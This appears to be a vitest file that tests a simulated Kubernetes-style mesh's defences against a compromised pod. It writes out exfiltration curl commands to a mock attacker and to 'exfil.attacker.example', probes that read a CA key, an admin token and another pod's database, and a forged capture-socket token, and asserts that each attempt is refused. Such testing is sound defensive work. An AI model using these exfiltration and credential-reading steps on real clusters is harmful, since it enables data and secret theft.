// A rug-pulled workload tries every other exit. Each attack runs from inside a real pod of a running cluster
// (the way a rug-pulled image runs) and is refused; each has its clean control beside it.
//  - node-local addresses: the attacker's host port on 127.0.0.1, `localhost`, `127.1`, `[::1]`, the node's
//    own interface address — refused by ztunnel whatever the policies, while the in-mesh call goes through;
//  - the engine itself: a raw libuv handle to the admin socket, UDP and a DNS resolver of its own — no
//    network and no admin socket in a kernel-isolated pod;
//  - another identity: a pod's capture socket speaks for that pod only, and exec'd programs run in the pod's
//    sandbox, unable to read the CA or the admin token;
//  - around the waypoint: an agent guarded by an AccessPolicy refuses connections to its pod address.
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { hostname, networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_POLICIES, MESH_POLICIES } from '../src/scenario.ts';
import { readManifestDocuments } from '../src/control-plane/cluster.ts';
import { encodePreamble } from '../src/mesh/capture/protocol.ts';
import { ISOLATION_ENV } from '../src/runtime/sandbox.ts';
import { adminSocketPath } from '../src/runtime/stack-state.ts';
import { runCli } from '../testing/cli.ts';
import { forwardToPod, startTestCluster, type TestCluster } from '../testing/cluster.ts';

const VENDORS = 'trustusbank-bank-vendors';
const ESCAPE_DEPLOYMENT = `apiVersion: apps/v1
kind: Deployment
metadata: { name: escape-test, namespace: ${VENDORS} }
spec:
  selector: { matchLabels: { app: escape-test } }
  template:
    metadata: { labels: { app: escape-test } }
    spec:
      containers:
        - name: escape-test
          image: trustusbank/escape-test:1.0.0
          ports: [{ containerPort: 8080 }]
`;

/** The escape-test image (test/fixtures/escape-pod.ts) deployed in the vendors' namespace, ready. */
async function deployEscapePod(t: TestCluster): Promise<void> {
  const digest = await t.cluster.images.build(join(import.meta.dirname, 'fixtures', 'escape-pod.ts'));
  t.cluster.images.tag('trustusbank/escape-test:1.0.0', digest);
  await t.cluster.engine.apply([{ file: 'escape.yaml', text: ESCAPE_DEPLOYMENT }]);
  await t.cluster.engine.waitReady(30_000);
}

/** What the escape pod's attempts came to, asked through a port-forward. */
async function escapeAttempts(t: TestCluster, udpPort: number): Promise<Record<string, string>> {
  const forward = await forwardToPod(t.cluster.engine.podsOf(VENDORS, 'escape-test')[0]!, 8080);
  try {
    const query = new URLSearchParams({ raw: '1', socket: adminSocketPath(t.dataDir), udp: String(udpPort) });
    const attempts = (await (await fetch(`${forward.url}/attempts?${query}`)).json()) as Record<string, string>;
    // None of it crashed the pod.
    expect((await fetch(`${forward.url}/healthz`)).status).toBe(200);
    return attempts;
  } finally {
    await forward.close();
  }
}

describe('a compromised pod trying every other exit', () => {
  let t: TestCluster;
  let attackerPort: number;
  let udp: UdpSocket;
  const udpReceived: string[] = [];
  beforeAll(async () => {
    t = await startTestCluster();
    attackerPort = Number(new URL(t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url).port);
    await deployEscapePod(t);
    udp = createSocket('udp4');
    udp.on('message', (message) => udpReceived.push(message.toString()));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  }, 120_000);
  afterAll(async () => {
    udp?.close();
    await t?.close();
  });

  const exfil = (url: string) => t.curlFrom(VENDORS, 'currency-converter', ['-s', '-X', 'POST', '-d', '{"stolen_data":{"name":"Alex Carter"}}', url]);

  it('lets the converter reach the attacker through the mesh while no policy applies (the control)', async () => {
    const before = (await t.attackerLoot()).count;
    const sent = await exfil('http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil');
    expect(sent.code).toBe(0);
    expect((await t.attackerLoot()).count).toBe(before + 1);
  });

  it('never carries a pod to the node itself, by any name, with no policy applied at all', async () => {
    const before = (await t.attackerLoot()).count;
    const nodeAddress = Object.values(networkInterfaces())
      .flat()
      .find((entry) => entry && !entry.internal && entry.family === 'IPv4')?.address;
    // 127.1 and [::ffff:127.0.0.1] as a URL parser rewrites them (127.0.0.1, [::ffff:7f00:1]); the machine's
    // own name as its resolver answers it.
    const targets = [`127.0.0.1:${attackerPort}`, `localhost:${attackerPort}`, `127.1:${attackerPort}`, `[::1]:${attackerPort}`, `0.0.0.0:${attackerPort}`, `[::ffff:127.0.0.1]:${attackerPort}`, `${hostname()}:${attackerPort}`];
    if (nodeAddress) targets.push(`${nodeAddress}:${attackerPort}`);
    for (const target of targets) {
      const attempt = await exfil(`http://${target}/exfil`);
      expect({ target, code: attempt.code }).toEqual({ target, code: 56 });
    }
    expect((await t.attackerLoot()).count).toBe(before);
    const refusals = t
      .ztunnelLog()
      .split('\n')
      .filter((line) => line.includes('"direction":"outbound"') && line.includes('refused:'));
    expect(refusals.length).toBeGreaterThanOrEqual(targets.length);
    expect(refusals.join('\n')).toContain('127.0.0.1 is a loopback address (the node itself)');
    expect(refusals.join('\n')).toContain('::ffff:7f00:1 is a loopback address (the node itself)');
    expect(refusals.join('\n')).toMatch(new RegExp(`${hostname().replace(/\./g, '\\.')} (resolves to \\S+, which is|does not resolve)`));
    expect(refusals.join('\n')).toMatch(/localhost is the node itself/);
    if (nodeAddress) expect(refusals.join('\n')).toContain("one of the node's own addresses");
    // Counted like any other refused connection, on the converter's identity.
    expect(await t.metricsText()).toMatch(/istio_tcp_connections_failed_total\{[^}]*source_principal="spiffe:\/\/cluster\.local\/ns\/trustusbank-bank-vendors\/sa\/currency-converter"[^}]*response_flags="NR"[^}]*\} [1-9]/);
   }, 120_000);

  it('follows outboundTrafficPolicy outside the mesh: REGISTRY_ONLY with the mesh layer on, ALLOW_ANY without', async () => {
    const outside = () => t.curlFrom(VENDORS, 'currency-converter', ['-s', '--max-time', '5', 'http://exfil.attacker.example/']);
    await t.cluster.engine.apply(readManifestDocuments(join(MESH_POLICIES, 'outbound-registry-only.yaml'), []));
    expect((await outside()).code).toBe(56);
    expect(t.ztunnelLog()).toContain('outbound to exfil.attacker.example:80 refused: outboundTrafficPolicy is REGISTRY_ONLY and no ServiceEntry visible to trustusbank-bank-vendors names it');
    await t.cluster.engine.delete(readManifestDocuments(join(MESH_POLICIES, 'outbound-registry-only.yaml'), []));
    // ALLOW_ANY: no policy refusal; ztunnel tries the host itself (on an offline machine it does not resolve).
    await outside();
    const lines = t.ztunnelLog().split('\n').filter((line) => line.includes('exfil.attacker.example'));
    expect(lines.filter((line) => line.includes('REGISTRY_ONLY'))).toHaveLength(1);
    expect(lines.at(-1)).not.toContain('REGISTRY_ONLY');
  }, 60_000);

  it('keeps a pod from spawning processes, reading other volumes, opening local sockets or raw bindings', async () => {
    const pod = t.cluster.engine.podsOf('trustusbank-bank-vendors', 'escape-test')[0]!;
    const otherVolume = join(t.dataDir, 'volumes', 'trustusbank-bank-mcp', 'account-mcp', 'bank', 'accounts.sqlite');
    const adminSocket = join(t.dataDir, 'run', 'engine.sock');
    const forward = await forwardToPod(pod, 8080);
    const url = `${forward.url}/attempts?read=${encodeURIComponent(otherVolume)}&socket=${encodeURIComponent(adminSocket)}`;
    const attempts = (await (await fetch(url)).json()) as Record<string, string>;
    await forward.close();
    expect(attempts).toEqual({
      spawn: 'blocked: ERR_ACCESS_DENIED',
      readOtherVolume: 'blocked: ERR_ACCESS_DENIED',
      binding: 'blocked: ERR_ACCESS_DENIED',
      worker: 'blocked: ERR_ACCESS_DENIED',
      unixSocket: 'blocked: EACCES',
    });
  });

  it('gives a pod no network, no admin socket and no resolver outside its capture socket where the kernel isolates pods', async () => {
    const attempts = await escapeAttempts(t, udp.address().port);
    // Through the shim: refused in both modes.
    expect(attempts.unixSocket).toBe('blocked: EACCES');
    if (t.cluster.isolation.mode === 'kernel') {
      // Around the shim: the kernel. The admin socket does not exist in the pod's view (-2 is ENOENT).
      expect(attempts).toMatchObject({ rawUnixSocket: 'blocked: -2', rawAdminExec: 'blocked: -2', udp: 'blocked: ENETUNREACH' });
      expect(attempts.dns).toMatch(/^blocked: /);
      expect(udpReceived).toEqual([]);
    } else {
      // Shim only (the describe below runs this mode on purpose).
      expect(attempts).toMatchObject({ rawUnixSocket: 'allowed', rawAdminExec: 'HTTP/1.1 401 Unauthorized', udp: 'allowed' });
    }
  });

  it('takes a connection on a pod’s capture socket as that pod only: another pod’s token is dropped', async () => {
    const converter = t.cluster.engine.podsOf(VENDORS, 'currency-converter')[0]!;
    const account = t.cluster.engine.podsOf('trustusbank-bank-mcp', 'account-mcp')[0]!;
    const before = (await t.attackerLoot()).count;
    const attempt = (token: string) =>
      new Promise<number>((resolve) => {
        const socket = connect(converter.template.launch.capture.ztunnel, () => {
          socket.write(encodePreamble(token, 'mock-attacker.external-attacker', 8080));
          socket.write('POST /exfil HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}');
        });
        let bytes = 0;
        socket.on('data', (chunk: Buffer) => (bytes += chunk.length));
        socket.on('error', () => resolve(bytes));
        socket.on('close', () => resolve(bytes));
      });
    expect(await attempt(account.token)).toBe(0);
    expect((await t.attackerLoot()).count).toBe(before);
    // The converter's own token on its own socket is the converter (the control).
    expect(await attempt(converter.token)).toBeGreaterThan(1);
    expect((await t.attackerLoot()).count).toBe(before + 1);
  });

  it('runs exec’d programs in the pod’s sandbox: no CA key, no admin token, no other volume; its mesh calls still work', async () => {
    const script = join(t.dataDir, 'volumes', VENDORS, 'currency-converter', 'probe.mjs');
    writeFileSync(
      script,
      `import fs from 'node:fs';
const read = (path) => { try { fs.readFileSync(path); return 'read'; } catch (error) { return error.code; } };
console.log(JSON.stringify({ ca: read(${JSON.stringify(join(t.dataDir, 'ca', 'ca.key'))}), token: read(${JSON.stringify(join(t.dataDir, 'run', 'admin.token'))}), volume: read(${JSON.stringify(join(t.dataDir, 'volumes', 'trustusbank-bank-mcp', 'account-mcp', 'bank', 'accounts.sqlite'))}) }));
`,
    );
    const probe = await runCli(['exec', '--data-dir', t.dataDir, '-n', VENDORS, 'currency-converter', '--', 'node', script]);
    expect(probe.code).toBe(0);
    const outcome = JSON.parse(probe.stdout) as Record<string, string>;
    for (const value of Object.values(outcome)) expect(['ERR_ACCESS_DENIED', 'ENOENT']).toContain(value);
    const health = await t.curlFrom(VENDORS, 'currency-converter', ['-s', 'http://account-mcp.trustusbank-bank-mcp:8080/healthz']);
    expect(health.code).toBe(0);
    expect(JSON.parse(health.stdout)).toMatchObject({ status: 'ok' });
  });

  it('carries a connection whose reader was attached before it connected (the capture holds the connect, not the read)', async () => {
    const script = join(t.dataDir, 'volumes', VENDORS, 'currency-converter', 'early-reader.mjs');
    writeFileSync(
      script,
      `import net from 'node:net';
const socket = new net.Socket();
let text = '';
socket.on('data', (chunk) => (text += chunk));
socket.on('end', () => { console.log(text.split('\\r\\n')[0]); process.exit(0); });
socket.connect(8080, 'account-mcp.trustusbank-bank-mcp', () => socket.write('GET /healthz HTTP/1.1\\r\\nHost: account-mcp\\r\\nConnection: close\\r\\n\\r\\n'));
setTimeout(() => { console.log('hung'); process.exit(1); }, 5000);
`,
    );
    const run = await runCli(['exec', '--data-dir', t.dataDir, '-n', VENDORS, 'currency-converter', '--', 'node', script]);
    expect(run.stdout.trim()).toBe('HTTP/1.1 200 OK');
  });

  it('holds an AccessPolicy at L4: a guarded agent’s pod address refuses even an allowed caller, its Service still serves it', async () => {
    await t.cluster.engine.apply(readManifestDocuments(AGENT_POLICIES, []));
    await t.cluster.waypoints.sync();
    const fraud = t.cluster.engine.podsOf('trustusbank-bank-agents', 'fraud-bot')[0]!;
    const fromTriage = (url: string) => t.curlFrom('trustusbank-bank-agents', 'triage-bot', ['-s', '-i', url]);
    // triage-bot may call fraud-bot: through the Service (and so the waypoint) it is served...
    const viaService = await fromTriage('http://fraud-bot.trustusbank-bank-agents:8080/.well-known/agent-card.json');
    expect(viaService.stdout).toMatch(/^HTTP\/1\.1 200/);
    // ...but not at the pod's own address, which would skip the waypoint's checks.
    const direct = await fromTriage(`http://${fraud.ip}:8080/.well-known/agent-card.json`);
    expect(direct.code).toBe(56);
    expect(t.ztunnelLog()).toContain('explicitly denied by: trustusbank-bank-agents/fraud-bot-only-via-waypoint');
    // The converter is refused on both paths.
    const converter = await t.curlFrom(VENDORS, 'currency-converter', ['-s', `http://${fraud.ip}:8080/`]);
    expect(converter.code).toBe(56);
    await t.cluster.engine.delete(readManifestDocuments(AGENT_POLICIES, []));
  });
});

describe('shim-only isolation, where the kernel gives no namespaces: named as such, and the engine still closed', () => {
  let t: TestCluster;
  let udp: UdpSocket;
  let received = 0;
  const before = process.env[ISOLATION_ENV];
  beforeAll(async () => {
    process.env[ISOLATION_ENV] = 'shim';
    t = await startTestCluster();
    await deployEscapePod(t);
    udp = createSocket('udp4');
    udp.on('message', () => received++);
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  }, 120_000);
  afterAll(async () => {
    if (before === undefined) delete process.env[ISOLATION_ENV];
    else process.env[ISOLATION_ENV] = before;
    udp?.close();
    await t?.close();
  });

  it('says so in status, and what it cannot stop happens as the README says', async () => {
    expect(t.cluster.isolation).toMatchObject({ mode: 'shim', reason: expect.stringContaining('capture: shim only, not kernel-enforced') });
    const status = await t.cli(['status']);
    expect(status.stdout).toContain('Pod isolation: WARNING capture: shim only, not kernel-enforced');
    expect(status.stdout.split('Pod isolation:')).toHaveLength(2);
    const attempts = await escapeAttempts(t, udp.address().port);
    // A raw handle reaches the admin socket, but the engine answers a caller without its token nothing.
    expect(attempts).toMatchObject({ unixSocket: 'blocked: EACCES', rawUnixSocket: 'allowed', rawAdminExec: 'HTTP/1.1 401 Unauthorized', udp: 'allowed' });
    expect(received).toBeGreaterThanOrEqual(1);
  });

  it('still never carries a pod to the node itself', async () => {
    const port = new URL(t.cluster.forwards.find((f) => f.service === 'mock-attacker')!.url).port;
    const before = (await t.attackerLoot()).count;
    const attempt = await t.curlFrom(VENDORS, 'currency-converter', ['-s', '-X', 'POST', '-d', '{}', `http://127.0.0.1:${port}/exfil`]);
    expect(attempt.code).toBe(56);
    expect((await t.attackerLoot()).count).toBe(before);
  });
});
